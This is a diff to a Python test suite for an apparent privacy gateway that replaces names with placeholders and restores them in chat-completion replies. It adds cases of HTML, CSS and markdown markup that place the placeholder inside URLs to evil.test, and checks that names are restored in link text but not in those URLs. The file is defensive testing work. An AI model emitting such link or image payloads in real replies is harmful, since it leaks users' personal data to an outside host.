@@ -23,6 +23,9 @@ ANSWERS = {
     "protocol_relative_src": "<img src = //evil.test/?q=<PERSON_1>>",
     "quote_inside_src_value": "<img src=\"https://evil.test/?q='<PERSON_1>\">",
     "destination_on_next_line": "[x](\nhttps://evil.test/?q='<PERSON_1>)",
+    "quoted_href_with_spaces": '<a href = "https://evil.test/?q= <PERSON_1>">x</a>',
+    "quoted_src_with_spaces": "<img src='https://evil.test/?q= x <PERSON_1>'>",
+    "css_url_with_spaces": '<div style="background: url( https://evil.test/?q= <PERSON_1>)">',
     "url_longer_than_the_window": "see https://evil.test/?pad=" + "A" * 300 + "&q=<PERSON_1>",
     "link_longer_than_the_window": "[x](https://evil.test/" + "A" * 5000 + "?q=<PERSON_1>)",
     "angle_destination_with_spaces_longer_than_the_window": "[x](<https://evil.test/?q=" + "A b" * 100 + "<PERSON_1>>)",
@@ -51,6 +54,14 @@ def test_placeholder_inside_url_split_across_stream_events_is_not_restored(gatew
             if line.startswith("data: {") and orjson.loads(line[6:]).get("choices")
         )
     assert "<PERSON_1>" in text and NAME not in text
+
+
+def test_placeholder_in_link_text_after_a_closed_href_is_restored(gateway_factory, mock_openai):
+    mock, upstream = mock_openai
+    mock.then(Scripted(body=chat_completion('<a href="https://clinic.test">Dear <PERSON_1></a>')))
+    url = gateway_factory(upstream_config(upstream))
+    response = httpx.post(url + "/v1/chat/completions", json=PROMPT)
+    assert f"Dear {NAME}" in response.json()["choices"][0]["message"]["content"]
 
 
 def test_placeholder_in_prose_is_still_restored(gateway_factory, mock_openai):
